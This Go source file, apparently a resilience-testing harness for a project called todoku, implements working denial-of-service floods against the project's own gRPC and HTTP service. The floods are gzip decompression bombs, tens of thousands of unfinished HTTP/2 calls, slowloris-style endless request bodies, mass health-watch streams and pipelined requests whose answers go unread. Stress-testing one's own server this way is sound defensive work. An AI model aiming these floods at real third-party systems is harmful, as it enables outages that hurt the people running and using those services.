package flood

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"net/http"
	"os"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc/health/grpc_health_v1"

	todokuv1 "todoku/gen/todoku/v1"
)

// Requests that become large when they are decoded, that never end, and answers that
// nobody reads.

// door is how an attacker sends a message to a port.
type door struct {
	client  func(local string) *http.Client
	url     func(a *attacker) string
	headers map[string]string
	frame   func(gzipped []byte) []byte
}

var (
	grpcDoor = door{
		client: http2From, url: func(a *attacker) string { return "http://" + a.plan.GRPC },
		headers: map[string]string{"Content-Type": "application/grpc", "Te": "trailers", "Grpc-Encoding": "gzip"},
		frame:   func(gzipped []byte) []byte { return append(prefix(1, len(gzipped)), gzipped...) },
	}
	webDoor = door{
		client: http1From, url: func(a *attacker) string { return "http://" + a.plan.HTTP },
		headers: map[string]string{"Content-Type": "application/proto", "Content-Encoding": "gzip"},
		frame:   func(gzipped []byte) []byte { return gzipped },
	}
)

// prefix returns what stands before a message of gRPC.
func prefix(compressed byte, length int) []byte {
	return binary.BigEndian.AppendUint32([]byte{compressed}, uint32(length))
}

// bombs sends PlaceOrders with as many empty orders as a request has room for: a megabyte on
// the wire of protobuf, a kilobyte compressed, a hundred megabytes decoded.
func bombs(local string, d door) func(context.Context, *attacker) {
	var packed bytes.Buffer
	w := gzip.NewWriter(&packed)
	_, _ = w.Write(bytes.Repeat([]byte{0x0a, 0}, 1<<19-16)) // A buffer takes all.
	_ = w.Close()                                           // Likewise.
	body := d.frame(packed.Bytes())
	return func(ctx context.Context, a *attacker) {
		c := d.client(local)
		url := d.url(a) + todokuv1.OrderService_PlaceOrders_FullMethodName
		a.repeat(ctx, 64, func(ctx context.Context) error { return a.post(ctx, c, url, d.headers, bytes.NewReader(body)) })
	}
}

// unfinishedCalls begins calls and sends no message: 50,000 at once, if the venue holds
// them.
func unfinishedCalls(local string) func(context.Context, *attacker) {
	return func(ctx context.Context, a *attacker) {
		a.each(50, func(int) {
			for ctx.Err() == nil {
				a.beginCalls(ctx, local, 1000)
			}
		})
	}
}

// beginCalls keeps as many calls begun on one connection, until the venue closes it.
func (a *attacker) beginCalls(ctx context.Context, local string, most int) {
	conn, err := from(local).DialContext(ctx, "tcp", a.plan.GRPC)
	if err != nil {
		a.count("not connected")
		return
	}
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	defer conn.Close() //nolint:errcheck // The venue may have closed it.
	framer := http2.NewFramer(conn, conn)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil || framer.WriteSettings() != nil {
		return
	}
	room := make(chan struct{}, most)
	closed := make(chan struct{})
	var writing sync.Mutex
	go func() {
		defer close(closed)
		a.readEnds(framer, &writing, room)
	}()
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for id := uint32(1); ; id += 2 {
		select {
		case room <- struct{}{}:
		case <-closed:
			return
		}
		block.Reset()
		for _, f := range [][2]string{
			{":method", "POST"},
			{":scheme", "http"},
			{":authority", "x"},
			{":path", todokuv1.OrderService_PlaceOrder_FullMethodName},
			{"content-type", "application/grpc"},
			{"te", "trailers"},
		} {
			_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // A buffer takes all.
		}
		a.begin()
		writing.Lock()
		err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true})
		writing.Unlock()
		if err != nil {
			<-closed
			return
		}
	}
}

// readEnds reads frames, counts calls that ended, and makes room for others.
func (a *attacker) readEnds(framer *http2.Framer, writing *sync.Mutex, room chan struct{}) {
	over := map[uint32]bool{}
	end := func(id uint32, how string) {
		if !over[id] {
			over[id] = true
			a.count(how)
			<-room
		}
	}
	for {
		frame, err := framer.ReadFrame()
		if err != nil {
			return
		}
		writing.Lock()
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				_ = framer.WriteSettingsAck() // The next read says whether the connection is lost.
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				_ = framer.WritePing(true, f.Data) // As above.
			}
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				end(f.StreamID, "answered")
			}
		case *http2.RSTStreamFrame:
			end(f.StreamID, "reset")
		}
		writing.Unlock()
	}
}

// unfinished is a body that sends its beginning and then nothing.
type unfinished struct {
	ctx   context.Context //nolint:containedctx // A reader has no arguments.
	begin io.Reader
}

// Read reads the beginning, and then waits.
func (u *unfinished) Read(b []byte) (int, error) {
	if n, err := u.begin.Read(b); err == nil {
		return n, nil
	}
	<-u.ctx.Done()
	return 0, context.Cause(u.ctx)
}

// unfinishedMessages sends all but the end of a message, two hundred at once on one
// connection: orders with a token, sign-ins without one.
func unfinishedMessages(local string) func(context.Context, *attacker) {
	return func(ctx context.Context, a *attacker) {
		const size = 1<<20 - 64
		method := todokuv1.OrderService_PlaceOrders_FullMethodName
		if a.token == "" {
			method = todokuv1.SessionService_Login_FullMethodName
		}
		begin := append(prefix(0, size), make([]byte, size-1)...)
		headers := map[string]string{"Content-Type": "application/grpc", "Te": "trailers"}
		c := http2From(local)
		a.repeat(ctx, 200, func(ctx context.Context) error {
			return a.post(ctx, c, "http://"+a.plan.GRPC+method, headers, &unfinished{ctx, bytes.NewReader(begin)})
		})
	}
}

// endless requests pages with a body that does not end.
func endless(local string) func(context.Context, *attacker) {
	return func(ctx context.Context, a *attacker) {
		c := http1From(local)
		a.repeat(ctx, 500, func(ctx context.Context) error {
			return a.post(ctx, c, "http://"+a.plan.HTTP+"/", nil, &unfinished{ctx, bytes.NewReader([]byte("x"))})
		})
	}
}

// watches watches the venue's health, 500 times on each of four connections.
func watches(local string) func(context.Context, *attacker) {
	return func(ctx context.Context, a *attacker) {
		a.each(4, func(int) {
			conn, err := a.dial(ctx, local)
			if err != nil {
				a.count(err.Error())
				return
			}
			health := grpc_health_v1.NewHealthClient(conn)
			a.repeat(ctx, 500, func(ctx context.Context) error {
				stream, err := health.Watch(ctx, &grpc_health_v1.HealthCheckRequest{})
				for err == nil {
					_, err = stream.Recv()
				}
				return err
			})
		})
	}
}

// unread asks for large pages on 500 connections and reads no answer.
func unread(local string) func(context.Context, *attacker) {
	return func(ctx context.Context, a *attacker) {
		a.each(500, func(int) {
			for ctx.Err() == nil {
				a.begin()
				conn, err := from(local).DialContext(ctx, "tcp", a.plan.HTTP)
				if err != nil {
					a.count("not connected")
					return
				}
				_ = conn.(*net.TCPConn).SetReadBuffer(4096) // The venue's sends block sooner.
				_, err = io.WriteString(conn, "GET /metrics HTTP/1.1\r\nHost: "+a.plan.HTTP+"\r\n\r\n")
				for err == nil { // Pipelined, until the venue stops reading or closes.
					_ = conn.SetWriteDeadline(time.Now().Add(time.Second)) // A failure shows in the write.
					_, err = io.WriteString(conn, "GET /metrics HTTP/1.1\r\nHost: "+a.plan.HTTP+"\r\n\r\n")
				}
				if errors.Is(err, os.ErrDeadlineExceeded) {
					a.untilReset(ctx, conn)
					continue
				}
				a.count("closed")
				_ = conn.Close() // The venue has closed it.
			}
		})
	}
}

// untilClosed waits until the venue closes a connection, and counts it.
func (a *attacker) untilClosed(ctx context.Context, conn net.Conn) {
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	_, _ = io.Copy(io.Discard, conn) // However it ends.
	if ctx.Err() == nil {
		a.count("closed")
	}
	_ = conn.Close() // As above.
}

// untilReset waits, without reading, until the venue closes a connection: writing fails then.
func (a *attacker) untilReset(ctx context.Context, conn net.Conn) {
	defer conn.Close() //nolint:errcheck // The venue may have closed it.
	tick := time.NewTicker(100 * time.Millisecond)
	defer tick.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		_ = conn.SetWriteDeadline(time.Now().Add(time.Millisecond)) // A failure shows in the write.
		if _, err := conn.Write([]byte("G")); err != nil && !errors.Is(err, os.ErrDeadlineExceeded) {
			a.count("closed")
			return
		}
	}
}

// each runs a function on so many goroutines and waits for all.
func (a *attacker) each(n int, run func(n int)) {
	var all sync.WaitGroup
	for i := range n {
		all.Go(func() { run(i) })
	}
	all.Wait()
}

// discard reads a body to its end.
func discard(body io.Reader) error {
	_, err := io.Copy(io.Discard, body)
	return err
}
